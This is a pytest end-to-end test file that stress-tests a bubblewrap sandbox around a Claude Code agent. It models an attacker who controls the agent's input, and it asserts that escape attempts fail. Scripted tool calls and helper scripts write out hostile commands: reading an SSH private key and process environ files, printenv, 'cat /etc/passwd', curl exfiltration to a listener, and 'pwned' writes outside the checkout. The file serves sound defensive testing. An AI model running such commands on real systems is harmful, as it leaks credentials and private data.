"""The sandbox through the real parts: bubblewrap, the real Claude Code CLI driven by the
scripted model, real processes and sockets on loopback.

The promise, as an attacker who controls the agent's input tries it (issue 34): the agent
(a) cannot read a private key outside its checkout — Read tool or ``cat``; (b) does not see
healer's environment (``GH_TOKEN``, ``AWS_SECRET_ACCESS_KEY``, ``SSH_AUTH_SOCK``); (c) cannot
send anything anywhere but its allowed endpoints (a listener that is not one receives
nothing); (d) cannot write outside its checkout and run folder — ``echo pwned >`` or the Write
tool; (e) cannot read healer's ``/proc/<pid>/environ``. Its legitimate work — an edit in its
checkout, its result file — succeeds. A command agent, a play action and a fleet agent's
non-loopback peer get the same walls.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from healer.agents import AgentTask, CommandExecutor, PlaybookExecutor
from healer.agents.executors import claude_cli
from healer.agents.sandbox import BwrapSandbox, Endpoint
from healer.config import load_settings
from healer.testing import ScriptedModel, text, tool_use
from healer.testing.sandbox import RecordingSandbox

pytestmark = [pytest.mark.e2e]

SECRETS = {"GH_TOKEN": "ghp_sandboxtestvalue0001", "AWS_SECRET_ACCESS_KEY": "awsSandboxSecret0002",
           "SSH_AUTH_SOCK": "/tmp/ssh-sandboxtest/agent.3"}
KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nsandbox-test-key-0003\n"


@pytest.fixture(autouse=True)
def _needs_bwrap(settings: Any) -> None:
    why = BwrapSandbox(settings).unavailable()
    if why:
        pytest.skip(f"no sandbox here: {why}")  # test_sandbox_host fails where it should be


class Listener:
    """A TCP listener on loopback that is not an allowed endpoint: records what reaches it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.received.append(conn.recv(65536) or b"(connected)")


@pytest.fixture
def listener() -> Iterator[Listener]:
    lst = Listener()
    yield lst
    lst.sock.close()


@pytest.fixture
def attacker(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """healer's side as the attacker hopes to find it: secrets in its environment, a private
    key in its (fake) home, a folder outside the checkout to write into."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    monkeypatch.setenv("HOME", str(home))
    for key, value in SECRETS.items():
        monkeypatch.setenv(key, value)
    outside = tmp_path / "outside"
    outside.mkdir()
    return {"key": home / ".ssh" / "id_rsa", "outside": outside}


def agents_with(tmp_path: Path, name: str, tools: str) -> Path:
    folder = tmp_path / f"{name}-agents"
    folder.mkdir()
    (folder / f"{name}.md").write_text(f"---\nname: {name}\ndescription: For a test.\n"
                                       f"tools: {tools}\nmodel: haiku\n---\n\nWork.\n")
    return folder


def result(status: str = "fixed") -> Any:
    doc = {"schema_version": 1, "kind": "${kind}", "target": "${target}", "status": status,
           "run_id": "${run_id}", "executor": "claude", "summary": "scripted"}
    return tool_use("Write", {"file_path": "${result_path}", "content": json.dumps(doc)})


@pytest.fixture
def cli(settings: Any) -> str:
    found = claude_cli(settings)
    if found is None:
        pytest.skip("the Claude Code CLI bundled with claude-agent-sdk is missing")
    return found


class TestClaudeAgentUnderAttack:
    async def test_reads_env_egress_writes_and_proc_are_refused_the_work_succeeds(
            self, settings: Any, claude_executor: Any, git_repo: Path, tmp_path: Path,
            attacker: dict[str, Path], listener: Listener, cli: str) -> None:
        """(a)–(e) through the real CLI. Claude Code itself refuses some (``cat`` of a path
        outside the checkout, ``/proc`` files); the rest run — their patterns allow them —
        and meet the sandbox: the key is not there, nothing leaves, nothing outside changes,
        no healer process is in sight."""
        key, outside = attacker["key"], attacker["outside"]
        agents = agents_with(tmp_path, "attacked", "Read, Write, Edit, Bash(cat:*), "
                             "Bash(printenv:*), Bash(curl:*), Bash(touch:*), Bash(ps:*)")
        proc_env = f"/proc/{os.getpid()}/environ"
        attacks = {
            "read_key": tool_use("Read", {"file_path": str(key)}),
            "cat_key": tool_use("Bash", {"command": f"cat {key}"}),
            "curl_key": tool_use("Bash", {"command": f"curl -sS file://{key}"}),
            "env": tool_use("Bash", {"command": "printenv"}),
            "send": tool_use("Bash", {"command": f"curl -sS -m 3 --data-binary @/etc/hostname "
                                                 f"http://127.0.0.1:{listener.port}/"}),
            "internet": tool_use("Bash", {
                "command": "curl -sS -m 3 --noproxy '*' https://example.com/"}),
            "touch": tool_use("Bash", {"command": f"touch {outside}/pwned"}),
            "curl_write": tool_use("Bash", {
                "command": f"curl -sS -o {outside}/pwned file:///etc/hostname"}),
            "write": tool_use("Write", {"file_path": str(outside / "pwned-by-write"),
                                        "content": "pwned"}),
            "write_etc": tool_use("Write", {"file_path": "/etc/healer-sandbox-pwned",
                                            "content": "x"}),
            "read_proc": tool_use("Read", {"file_path": proc_env}),
            "ps": tool_use("Bash", {"command": "ps -eo pid,args"}),
        }
        work = tool_use("Edit", {"file_path": "${cwd}/app.py", "old_string": "sum(items) + 1",
                                 "new_string": "sum(items)"})
        with ScriptedModel([*attacks.values(), work, result("fixed"), text("done")]) as model:
            outcome = await claude_executor(model, agents_dir=agents).run(AgentTask(
                "attacked", "fp1", kind="healing", cwd=str(git_repo), timeout_s=120))
        seen = dict(zip(attacks, (t.tool_result_text() for t in model.turns[1:]), strict=False))
        everything = json.dumps([r.body for r in model.requests])
        denied = "has been denied"  # Claude Code's own refusal (dontAsk)
        # (a) the key is not in the sandbox at all
        assert KEY.splitlines()[1] not in everything
        assert "does not exist" in seen["read_key"]
        assert denied in seen["cat_key"]
        assert "Couldn't open file" in seen["curl_key"]  # ran, and met the sandbox
        # (b) healer's environment did not come along; the run's own variables did
        assert f"HEALER_RUN_ID={outcome.run_id}" in seen["env"]
        assert "HOME=/home/agent" in seen["env"]
        for name, value in SECRETS.items():
            assert value not in everything and f"{name}=" not in seen["env"]
        # (c) nothing leaves: the listener heard nothing, no name resolves
        assert "Couldn't connect" in seen["send"] and listener.received == []
        assert "Could not resolve host" in seen["internet"]
        # (d) nothing outside changes (a Write "succeeds" into the sandbox's private /tmp)
        assert denied in seen["touch"] and "Failure writing" in seen["curl_write"]
        assert "EROFS" in seen["write_etc"]
        assert sorted(outside.iterdir()) == [] and not Path("/etc/healer-sandbox-pwned").exists()
        # (e) healer's processes are out of sight: a pid namespace of the sandbox's own
        assert "Cannot read" in seen["read_proc"] or "does not exist" in seen["read_proc"]
        pids = {line.split()[0] for line in seen["ps"].splitlines()[1:]}
        assert str(os.getpid()) not in pids and "-m pytest" not in seen["ps"]
        assert max(int(p) for p in pids) < 100, seen["ps"]
        # the legitimate work
        assert outcome.ok and outcome.status == "fixed", outcome.error
        assert "return sum(items)\n" in (git_repo / "app.py").read_text()

    async def test_the_healing_agent_runs_what_its_patterns_list_and_nothing_else(
            self, settings: Any, claude_executor: Any, git_repo: Path, listener: Listener,
            cli: str) -> None:
        """The bundled healing agent: ``git diff`` runs; ``cat /etc/passwd`` and ``curl``
        are refused by Claude Code (dontAsk), before the sandbox is even asked."""
        (git_repo / "app.py").write_text("def total(items):\n    return sum(items)\n")
        script = [tool_use("Bash", {"command": "git diff"}),
                  tool_use("Bash", {"command": "cat /etc/passwd"}),
                  tool_use("Bash", {"command": f"curl -sS http://127.0.0.1:{listener.port}/"}),
                  tool_use("Bash", {"command": "git diff && cat /etc/passwd"}),
                  result("fixed"), text("done")]
        with ScriptedModel(script) as model:
            outcome = await claude_executor(model).run(AgentTask(
                "healing-agent", "fp2", cwd=str(git_repo), timeout_s=120,
                vars={"error_type": "AssertionError", "error_message": "off by one"}))
        seen = [t.tool_result_text() for t in model.turns[1:5]]
        assert "-    return sum(items) + 1" in seen[0]
        for refused in seen[1:]:
            assert "denied" in refused and "root:x:0:0" not in refused, refused
        assert listener.received == [] and outcome.ok

    async def test_a_named_model_endpoint_on_a_low_port_is_bridged_end_to_end(
            self, settings: Any, tmp_path: Path, cli: str) -> None:
        """``ANTHROPIC_BASE_URL=http://model.test:80``: inside, model.test is a loopback
        address of the sandbox's own (/etc/hosts) where the bridge listens on port 80 —
        healer's side connects for it (here: to the scripted model)."""
        from healer.agents.claude import ClaudeExecutor

        with ScriptedModel([result("ok"), text("done")]) as model:
            async def connect(host: str, port: int) -> Any:
                assert (host, port) == ("model.test", 80)
                return await asyncio.open_connection("127.0.0.1", model.port)

            env = {**model.env(), "ANTHROPIC_BASE_URL": "http://model.test:80",
                   "CLAUDE_CODE_MAX_RETRIES": "0"}
            outcome = await ClaudeExecutor(
                settings, env=env, sandbox=BwrapSandbox(settings, connect=connect)
            ).run(AgentTask("channel-diagnoser", "peer1", vars={"host": "127.0.0.1"},
                            cwd=str(tmp_path), timeout_s=120))
        assert outcome.ok, outcome.error
        assert model.requests and model.requests[0].headers.get("host") == "model.test"


def run_in(box: BwrapSandbox, argv: list[str], **kw: Any) -> subprocess.CompletedProcess[str]:
    """Run ``argv`` in ``box`` (its bridges served meanwhile) and return what it printed."""
    async def go() -> subprocess.CompletedProcess[str]:
        wrapped = box.wrap(argv, env={"HEALER_RUN_ID": "t"}, **kw)
        async with wrapped:
            proc = await asyncio.create_subprocess_exec(
                *wrapped.argv, env=wrapped.env, stdout=asyncio.subprocess.PIPE,
                stderr=asyncio.subprocess.STDOUT)
            out, _ = await asyncio.wait_for(proc.communicate(), 60)
        return subprocess.CompletedProcess(argv, proc.returncode or 0, out.decode(), "")

    return asyncio.run(go())


PROBE = """
import socket, sys
for host, port in [(a.rsplit(":", 1)[0], int(a.rsplit(":", 1)[1])) for a in sys.argv[1:]]:
    try:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(b"ping"); print(host, port, s.recv(100).decode())
    except OSError as exc:
        print(host, port, "refused:", exc.strerror)
for line in open("/proc/self/status"):
    if line.startswith(("CapInh", "CapPrm", "CapEff", "CapAmb")):
        print(line.strip())
"""


class TestFleetPeers:
    def test_a_lan_peer_is_reached_at_its_own_address_and_nothing_else(
            self, settings: Any, tmp_path: Path) -> None:
        """A fleet peer at 10.77.0.5 (not loopback): the bridge adds that address to the
        sandbox's loopback with CAP_NET_ADMIN, listens there, drops every capability — the
        agent reaches 10.77.0.5:8855 (healer's side connects for it), not another port or
        address, and holds no capability."""
        server = socket.create_server(("127.0.0.1", 0))
        port = server.getsockname()[1]

        def echo() -> None:
            conn, _ = server.accept()
            with conn:
                conn.sendall(b"pong:" + conn.recv(100))

        threading.Thread(target=echo, daemon=True).start()

        async def connect(host: str, want: int) -> Any:
            assert (host, want) == ("10.77.0.5", 8855)
            return await asyncio.open_connection("127.0.0.1", port)

        probe = tmp_path / "probe.py"
        probe.write_text(PROBE)
        box = BwrapSandbox(settings, connect=connect)
        done = run_in(box, [sys.executable, str(probe), "10.77.0.5:8855", "10.77.0.5:22",
                            "10.77.0.6:8855"], cwd=str(tmp_path), readable=[str(probe)],
                      network=[Endpoint("10.77.0.5", 8855)])
        server.close()
        lines = done.stdout.splitlines()
        assert "10.77.0.5 8855 pong:ping" in lines, done.stdout
        assert any(line.startswith("10.77.0.5 22 refused") for line in lines), done.stdout
        assert any(line.startswith("10.77.0.6 8855 refused") for line in lines), done.stdout
        caps = [line.split() for line in lines if line.startswith("Cap")]
        assert len(caps) == 4 and all(int(c[1], 16) == 0 for c in caps), done.stdout


class TestCommandAgentsAndPlayActions:
    async def test_a_command_agent_writes_its_checkout_only_and_reaches_nothing(
            self, settings: Any, git_repo: Path, attacker: dict[str, Path],
            listener: Listener) -> None:
        agent = git_repo.parent / "tools" / "agent.py"
        agent.parent.mkdir()
        agent.write_text(f"""
import json, os, socket, sys
out = {{}}
for name, path in [("key", {str(attacker['key'])!r}), ("outside", {str(attacker['outside'])!r})]:
    try:
        open(os.path.join(path, "x") if name == "outside" else path, "a").close()
        out[name] = "wrote"
    except OSError as exc:
        out[name] = exc.strerror
try:
    socket.create_connection(("127.0.0.1", {listener.port}), timeout=2).sendall(b"leak")
    out["net"] = "sent"
except OSError as exc:
    out["net"] = exc.strerror
out["env"] = [k for k in {sorted(SECRETS)!r} if k in os.environ]
open("report.json", "w").write(json.dumps(out))
json.dump({{"schema_version": 1, "kind": os.environ["HEALER_KIND"], "run_id":
           os.environ["HEALER_RUN_ID"], "target": os.environ["HEALER_TARGET"],
           "status": "fixed", "summary": "ran"}}, open(sys.argv[1], "w"))
""")
        box = RecordingSandbox(BwrapSandbox(settings))
        outcome = await CommandExecutor(settings, sandbox=box, commands={
            "healing-agent": [sys.executable, str(agent), "{result_file}"]}).run(
            AgentTask("healing-agent", "fp3", cwd=str(git_repo)))
        assert outcome.ok, outcome.error
        report = json.loads((git_repo / "report.json").read_text())
        assert report["key"] == "No such file or directory"
        assert report["outside"] == "No such file or directory"
        assert report["net"] == "Connection refused" and report["env"] == []
        assert listener.received == [] and not (attacker["outside"] / "x").exists()

    async def test_a_play_action_cannot_write_outside_or_reach_out(
            self, tmp_path: Path, listener: Listener) -> None:
        outside = tmp_path / "outside"
        outside.mkdir()
        action = tmp_path / "action.py"
        action.write_text(
            "import socket, sys\n"
            f"open({str(outside / 'x')!r}, 'w').write(sys.argv[1])\n")
        leak = tmp_path / "leak.py"
        leak.write_text("import socket\n"
                        f"socket.create_connection(('127.0.0.1', {listener.port}), 2)\n")
        settings = load_settings(env={}, overrides={
            "state_dir": str(tmp_path / "state"), "results_dir": str(tmp_path / "results"),
            "play": {"actions": {"retry": [sys.executable, str(action), "{pod}"],
                                 "restart": [sys.executable, str(leak)]}}})
        ex = PlaybookExecutor(settings)
        wrote = await ex.run(AgentTask("remediation-agent", "play-1",
                                       vars={"strategy": "retry", "pod": "p1"}))
        reached = await ex.run(AgentTask("remediation-agent", "play-2",
                                         vars={"strategy": "restart"}))
        assert wrote.status == "failed"
        assert "No such file or directory" in (wrote.result or {})["error"]
        assert reached.status == "failed"
        assert "Connection refused" in (reached.result or {})["error"]
        assert not (outside / "x").exists() and listener.received == []

